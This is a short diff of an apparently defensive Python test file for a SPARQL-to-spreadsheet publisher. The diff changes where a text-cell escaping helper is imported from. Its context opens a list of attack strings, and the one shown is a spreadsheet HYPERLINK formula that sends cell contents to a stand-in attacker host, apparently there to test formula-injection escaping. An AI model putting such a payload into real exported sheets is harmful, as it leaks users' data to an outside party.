@@ -8,7 +8,8 @@ from hypothesis import strategies as st
 
 from publisher.errors import QueryError
 from publisher.sparql.engine import Triples
-from publisher.sparql.sheet import as_text_cell, comma_separated, sheet_of
+from publisher.sparql.sheet import comma_separated, sheet_of
+from publisher.sparql.text_cells import as_text_cell
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"more")',
